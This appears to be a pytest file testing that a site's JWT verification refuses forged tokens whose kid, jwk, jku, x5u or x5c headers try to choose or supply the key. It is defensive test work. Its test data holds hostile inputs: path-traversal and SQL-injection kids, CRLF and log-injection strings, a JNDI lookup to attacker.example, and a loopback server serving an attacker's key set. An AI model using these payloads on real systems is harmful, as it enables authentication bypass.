"""The key is the site's, whatever the token says: ``kid`` names one, nothing brings one along
(RFC 8725 §2.9, §3.10; RFC 7515 appendix D; ASVS 5.0 V9.1.3)."""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import jwt
import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from jwt.algorithms import ECAlgorithm

from tests.attacks.forging import MISSING, b64, changed, forged, parts_of, signed

FLAG = "attacker.example"


@pytest.mark.parametrize(
    "kid",
    [
        MISSING,
        None,
        "",
        0,
        1.5,
        True,
        [],
        ["kid"],
        {"kid": "kid"},
        "unknown",
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "' OR '1'='1",
        "%",
        "*",
        "key\0",
        "key\n",
        "key\r\nSet-Cookie: a=b",
        "\x1b[2J",
        "\x7f",
        "\u202e",
        "\ud800",
        "|/bin/true",
        "${jndi:ldap://attacker.example}",
        "x" * 5000,
    ],
    ids=lambda kid: repr(kid)[:30] if kid is not MISSING else "missing",
)
def test_kid_injection(phone, assert_refused, kid):
    """RFC 8725 §3.10: a kid is compared, never used as a path, a query or a URL."""
    assert_refused(forged(phone.access, {"kid": kid}))


@pytest.mark.parametrize(
    "respell",
    [
        str.swapcase,
        "{} ".format,
        " {}".format,
        "{}\0".format,
        "{}\n".format,
        "{}=".format,
        lambda kid: kid[:-1],
        lambda kid: kid[:-1] + "_",
        lambda kid: [kid],
    ],
    ids=["case", "space", "space before", "nul", "newline", "padding", "shorter", "like", "list"],
)
def test_kid_that_is_almost_the_right_one(phone, assert_refused, respell):
    """RFC 8725 §3.10: many a database takes these for equal, or "_" for any character."""
    head, _ = parts_of(phone.access)
    assert_refused(forged(phone.access, {"kid": respell(head["kid"])}))


def by_a_known_secret(token: str, kid: str, secret: bytes) -> str:
    head, body = parts_of(token)
    return signed(changed(head, {"kid": kid}), changed(body, {}), secret)


def test_kid_naming_an_empty_file_with_an_empty_key(phone, assert_refused):
    """RFC 8725 §3.10: whoever reads the key from the path has none."""
    assert_refused(by_a_known_secret(phone.access, "../../dev/null", b""))


@pytest.mark.parametrize("path", ["{}", "../../../../../../../..{}", "file://{}", "{}\0.pem"])
def test_kid_naming_a_file_whose_content_is_known(phone, assert_refused, tmp_path, path):
    """RFC 8725 §3.10: some file is the same on every machine, and its content the secret."""
    known = tmp_path / "known"
    known.write_bytes(b"what every machine has in this file\n")
    kid = path.format(known)
    for secret in (known.read_bytes(), known.read_bytes().strip()):
        assert_refused(by_a_known_secret(phone.access, kid, secret))


@pytest.mark.parametrize(
    "kid", ["' UNION SELECT '{}' --", "x' UNION SELECT '{}", 'x" UNION SELECT "{}']
)
def test_kid_selecting_a_secret_of_the_attackers(phone, assert_refused, kid):
    """RFC 8725 §3.10: SQL injection, by which the query's answer is the attacker's."""
    secret = "the secret that the query is to answer"
    assert_refused(by_a_known_secret(phone.access, kid.format(secret), secret.encode()))


def test_kid_is_not_written_to_the_log(phone, assert_refused, caplog):
    """CWE-117: it could be a line of the log."""
    caplog.set_level(logging.DEBUG)
    assert_refused(forged(phone.access, {"kid": f"key\n{FLAG} signed in"}))
    assert "refused" in caplog.text
    assert FLAG not in caplog.text


def test_an_embedded_secret_that_signed_the_token_itself(phone, assert_refused):
    """RFC 7515 appendix D: CVE-2018-0114."""
    own = b"attacker's own key of 32 bytes!!"
    head, body = parts_of(phone.access)
    jwk = {"kty": "oct", "k": b64(own), "kid": head["kid"]}
    assert_refused(signed(changed(head, {"jwk": jwk}), changed(body, {}), own))


class AttackersServer(ThreadingHTTPServer):
    """On loopback, with what a header may point to."""

    def __init__(self, documents: dict[str, bytes]) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.documents = documents
        self.requests: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_port}"

    def seen(self) -> list[str]:
        """The requests until now. Our own comes last, which shows that the server listens."""
        connection = HTTPConnection("127.0.0.1", self.server_port, timeout=10)
        connection.request("GET", "/ours")
        connection.getresponse().read()
        connection.close()
        *others, ours = self.requests
        assert ours.startswith("GET /ours ")
        return others


class Answer(BaseHTTPRequestHandler):
    server: AttackersServer
    timeout = 10

    def parse_request(self) -> bool:
        # Before anything is understood: a TLS handshake is a request too.
        self.server.requests.append(self.raw_requestline.decode("latin-1"))
        return super().parse_request()

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.server.documents.get(self.path, b""))

    def log_message(self, *args: object) -> None:
        """Not to the terminal."""


@dataclass
class Attacker:
    """Somebody with a key of their own, and all the ways to say that it is the right one."""

    key: ec.EllipticCurvePrivateKey
    server: AttackersServer
    parameters: dict[str, Any]


def certificate(key: ec.EllipticCurvePrivateKey) -> x509.Certificate:
    """Signed by the key itself."""
    name, now = x509.Name([]), datetime.now(UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    valid = builder.not_valid_before(now).not_valid_after(now + timedelta(days=1))
    return valid.sign(key, SHA256())


@pytest.fixture
def es256_site(settings, private_keys):
    """The site signs with ES256: to be asked for before a device is signed in."""
    settings.JWT_REVOKE = {
        **settings.JWT_REVOKE,
        "ALGORITHM": "ES256",
        "SIGNING_KEYS": [private_keys["ES256"]],
    }


@pytest.fixture
def attacker(es256_site, phone) -> Iterator[Attacker]:
    head, _ = parts_of(phone.access)
    key = ec.generate_private_key(ec.SECP256R1())
    jwk = {**ECAlgorithm.to_jwk(key.public_key(), as_dict=True), "kid": head["kid"]}
    cert = certificate(key)
    documents = {
        "/jwks.json": json.dumps({"keys": [jwk]}).encode(),
        "/cert.pem": cert.public_bytes(Encoding.PEM),
    }
    with AttackersServer(documents) as server:
        parameters = {
            "jwk": jwk,
            "jku": f"{server.url}/jwks.json",
            "x5u": f"{server.url}/cert.pem",
            "x5c": [base64.b64encode(cert.public_bytes(Encoding.DER)).decode()],
            "kid": f"{server.url}/jwks.json",
        }
        thread = Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield Attacker(key, server, parameters)
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.parametrize("parameter", ["jwk", "jku", "x5u", "x5c", "kid"])
def test_a_key_that_the_token_brings_along(es256_site, phone, attacker, assert_refused, parameter):
    """RFC 8725 §2.9, §3.10, CVE-2018-0114: not used, and nothing is fetched to see."""
    head, body = parts_of(phone.access)
    headers = {**head, parameter: attacker.parameters[parameter]}
    assert_refused(jwt.encode(body, attacker.key, "ES256", headers))
    assert attacker.server.seen() == []
